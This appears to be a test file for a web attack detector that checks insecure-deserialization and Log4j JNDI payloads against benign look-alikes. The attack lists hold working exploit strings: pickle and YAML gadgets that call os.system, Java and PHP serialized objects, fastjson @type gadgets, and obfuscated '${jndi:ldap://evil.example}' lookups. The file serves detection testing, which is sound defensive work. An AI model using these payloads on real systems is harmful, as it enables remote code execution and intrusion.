import { describeDetector } from './detector-cases';

describeDetector('deserialization', {
  attacks: [
    'E:9:"Color:Red";',
    'BAhbB286C0dhZGdldDA6CkBuYW1l',
    'gANjcG9zaXgKc3lzdGVtCnEA',
    "--- !ruby/class 'Kernel'",
    '<java.util.TreeMap serialization="custom"/>',
    'O:8:"stdClass":1:{s:1:"a";i:2;}',
    'a:1:{i:0;O:1:"A":0:{}}',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
    'aced0005737200',
    '!!python/object/apply:os.system ["id"]',
    '!!javax.script.ScriptEngineManager []',
    '!ruby/object:Gem::Installer',
    '{"a":"_$$ND_FUNC$$_function(){}()"}',
    "cos\nsystem\n(S'id'\ntR.",
    { text: 'com.sun.rowset.JdbcRowSetImpl', source: 'body', name: '@type' },
    { text: '{"@type":"java.lang.AutoCloseable"}', source: 'body', name: 'x' },
  ],
  benign: [
    'java.util.TreeMap',
    'BAhamas trip',
    'gANjo',
    'a:1',
    'O:8',
    'wow!! python',
    'type: java',
    'rO0',
    { text: 'Person', source: 'body', name: '@type' },
    { text: 'Product', source: 'body', name: '$type' },
    '!!important!!',
  ],
});

describeDetector('jndi', {
  attacks: [
    '${lower:${upper:y}}',
    '${log4j:configLocation}',
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:ldap://evil.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
    '${jndi:${lower:l}dap://evil.example}',
    '${${env:X:-j}ndi:dns://evil.example}',
    '$%7Bjndi:ldap://evil.example/a%7D',
    { text: '${jndi:ldap://evil.example/a}', source: 'header', name: 'user-agent' },
    { text: '/${jndi:dns://evil.example}', source: 'path' },
    { text: '${jndi:ldap://evil.example/a}', source: 'body', name: 'user' },
  ],
  benign: [
    'log4j: how to',
    '${name}',
    '${a:b}',
    'jndi tutorial',
    '$ {x: y}',
    { text: '${env.HOME}', source: 'body', name: 'x' },
  ],
});
